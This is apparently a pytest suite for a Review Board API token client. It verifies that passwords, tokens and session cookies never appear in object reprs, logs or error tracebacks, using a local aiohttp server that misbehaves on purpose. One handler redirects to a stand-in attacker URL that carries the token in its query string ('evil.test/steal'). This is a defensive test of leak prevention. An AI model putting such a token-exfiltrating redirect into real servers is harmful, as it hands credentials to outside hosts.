"""Secrets never show: not in repr/str, log records at any level, exception
messages or formatted tracebacks.

A real aiohttp server (so the real transport runs) logs the client in with a
password, serves token payloads, and misbehaves in every way that puts a token
into an error path: a 503 before the answer, an HTML 500 page quoting the
token, an error payload whose message quotes it, a truncated body, a body with
the wrong mime type, and a redirect to another origin. The transport's objects,
the client and response excerpts (``rbtokens._redact``) are checked on their own.
"""

from __future__ import annotations

import base64
import json
import logging
import traceback
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp import web
from secretscan import register_secret
from yarl import URL

from rbtokens import APIToken, RBClient, RBTokensError, RetryPolicy
from rbtokens._redact import excerpt
from rbtokens.transport import Request, Response

PASSWORD = "Sup3r-Secret-Passw0rd"
TOKEN = "rbp_" + "S3cr3tT0k3n" * 22 + "abc"
LEGACY = "0123456789abcdef0123456789abcdef01234567"
SESSION = "sessionid-7f3a9c2e5b1d"
MIME = "application/vnd.reviewboard.org.{}+json"
for _secret in (PASSWORD, TOKEN, LEGACY, SESSION):
    register_secret(_secret)


def token_item(origin: str, token: str = TOKEN, token_id: int = 1) -> dict[str, Any]:
    href = f"{origin}/api/users/alice/api-tokens/{token_id}/"
    return {
        "id": token_id,
        "token": token,
        "note": "deploy",
        "policy": {},
        "links": {
            "self": {"href": href, "method": "GET"},
            "delete": {"href": href, "method": "DELETE"},
            "update": {"href": href, "method": "PUT"},
        },
    }


@pytest.fixture
async def server() -> AsyncIterator[str]:
    state = {"first_list": True}

    async def handle(request: web.Request) -> web.StreamResponse:
        origin = f"http://127.0.0.1:{request.url.port}"
        auth = request.headers.get("Authorization", "")
        cookies = request.headers.get("Cookie", "")
        if SESSION not in cookies:
            expected = "Basic " + base64.b64encode(f"admin:{PASSWORD}".encode()).decode()
            if auth != expected:
                return web.json_response(
                    {"stat": "fail", "err": {"code": 104, "msg": "bad login"}},
                    status=401,
                    content_type=MIME.format("error"),
                )
        headers = {"Set-Cookie": f"rbsessionid={SESSION}; Path=/"} if auth else {}
        path = request.path
        if path == "/api/users/alice/api-tokens/":
            if request.method == "POST":
                body = {"stat": "ok", "api_token": token_item(origin, TOKEN, 2)}
                return web.json_response(
                    body, status=201, content_type=MIME.format("api-token"), headers=headers
                )
            if state["first_list"]:
                state["first_list"] = False
                return web.Response(status=503, text="busy", headers=headers)
            items = [token_item(origin), token_item(origin, LEGACY, 3)]
            body = {"stat": "ok", "api_tokens": items, "total_results": 2, "links": {}}
            return web.json_response(body, content_type=MIME.format("api-tokens"), headers=headers)
        if path == "/api/users/alice/api-tokens/1/":
            body = {"stat": "ok", "api_token": token_item(origin)}
            return web.json_response(
                body, content_type=MIME.format("api-token"), headers={**headers, "ETag": "e1"}
            )
        if path == "/api/html500/":
            page = f"<html><h1>Server Error</h1><pre>token={TOKEN} legacy {LEGACY}</pre></html>"
            return web.Response(status=500, text=page, content_type="text/html")
        if path == "/api/echo-error/":
            body = {"stat": "fail", "err": {"code": 105, "msg": f"bad token {TOKEN}"},
                    "fields": {"token": [f"{TOKEN} is wrong"]}}  # fmt: skip
            return web.json_response(body, status=400, content_type=MIME.format("error"))
        if path == "/api/wrong-type/":
            return web.Response(text=json.dumps({"token": TOKEN}), content_type="text/plain")
        if path == "/api/bad-json/":
            text = '{"stat": "ok", "api_token": {"token": "' + TOKEN + '", "id": "x"}}'
            return web.Response(text=text, content_type=MIME.format("api-token"))
        if path == "/api/truncated/":
            resp = web.StreamResponse(headers={"Content-Type": MIME.format("api-token")})
            resp.content_length = 10_000
            await resp.prepare(request)
            await resp.write(b'{"api_token": {"token": "' + TOKEN.encode())
            assert request.transport is not None
            request.transport.close()
            return resp
        if path == "/api/elsewhere/":
            raise web.HTTPFound(f"http://evil.test/steal?t={TOKEN}")
        return web.json_response({"stat": "ok", "links": {}}, content_type=MIME.format("root"))

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handle)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}/"
    await runner.cleanup()


def assert_clean(text: str, where: str) -> None:
    for secret in (PASSWORD, TOKEN, LEGACY, SESSION):
        assert secret not in text, f"a secret leaked into {where}"
    assert base64.b64encode(f"admin:{PASSWORD}".encode()).decode() not in text, where


async def test_a_full_request_cycle_at_debug_leaks_nothing(
    server: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    texts: list[tuple[str, str]] = []
    errors: list[BaseException] = []
    policy = RetryPolicy(attempts=3, backoff=0.0001)
    async with RBClient(server, username="admin", password=PASSWORD, retry=policy) as c:
        texts.append(("client repr", repr(c) + str(c)))
        tokens = await c.get_path("users/alice/api-tokens/")
        assert [t.token for t in tokens] == [TOKEN, LEGACY]  # the values are there to read
        texts.append(("list repr", repr(tokens) + str(tokens)))
        for token in tokens:
            assert isinstance(token, APIToken)
            texts.append(("token repr", repr(token) + str(token) + f"{token}" + f"{token!r}"))
        again = await tokens[0].get_self()
        texts.append(("revalidated", repr(again)))
        created = await c.request("POST", server + "api/users/alice/api-tokens/",
                                  data={"note": "n", "policy": {}})  # fmt: skip
        texts.append(("created", repr(created) + str(created)))
        for path in ("html500", "echo-error", "wrong-type", "bad-json", "truncated",
                     "elsewhere"):  # fmt: skip
            try:
                await c.get_path(path + "/")
            except RBTokensError as exc:
                errors.append(exc)
                texts.append((f"{path}: format_exc", traceback.format_exc()))
            else:
                pytest.fail(f"{path} did not fail")
    for exc in errors:
        texts.append(("str", str(exc)))
        texts.append(("repr", repr(exc)))
        texts.append(("args", repr(exc.args)))
        texts.append(("chain", "".join(traceback.format_exception(exc))))
    assert len(errors) == 6
    assert {type(e).__name__ for e in errors} >= {"ServerBugError", "InvalidFormDataError"}
    texts.append(("log", caplog.text))
    texts.extend(("record", r.getMessage()) for r in caplog.records)
    assert any(r.levelno == logging.DEBUG for r in caplog.records)
    assert any(r.levelno == logging.WARNING for r in caplog.records)  # the 503 retry
    for where, text in texts:
        assert_clean(text, where)


def test_transport_objects_hide_secrets() -> None:

    auth = "Basic " + base64.b64encode(f"admin:{PASSWORD}".encode()).decode()
    req = Request("POST", URL("https://rb.test/api/"), {"Authorization": auth}, PASSWORD.encode())
    resp = Response(
        200,
        {"set-cookie": f"rbsessionid={SESSION}"},
        json.dumps({"token": TOKEN}).encode(),
        {"rbsessionid": SESSION},
    )
    for obj in (req, resp):
        assert_clean(repr(obj) + str(obj), type(obj).__name__)


def test_token_client_repr_hides_the_token() -> None:
    client = RBClient("https://rb.test/", api_token=TOKEN)
    assert_clean(repr(client) + str(client), "client repr")


def test_request_and_response_reprs_hide_secrets() -> None:
    req = Request("GET", URL("https://rb.test/api/"), {"Authorization": "Basic c2VjcmV0"}, b"x")
    resp = Response(
        200, {"set-cookie": "rbsessionid=abc123"}, b'{"token": "rbp_x"}', {"rbsessionid": "abc123"}
    )
    assert "c2VjcmV0" not in repr(req)
    assert "abc123" not in repr(resp) and "rbp_x" not in repr(resp)


def test_excerpt_redacts_a_hex_token_cut_at_the_boundary() -> None:
    token = "0123456789abcdef" * 2 + "01234567"
    text = excerpt(b"x" * 190 + b" " + token.encode() + b" tail")
    assert token[:9] not in text
    body = b"y" * 795 + b" " + b"rbp_" + b"A" * 100
    assert "AAAA" not in excerpt(body, limit=1000)
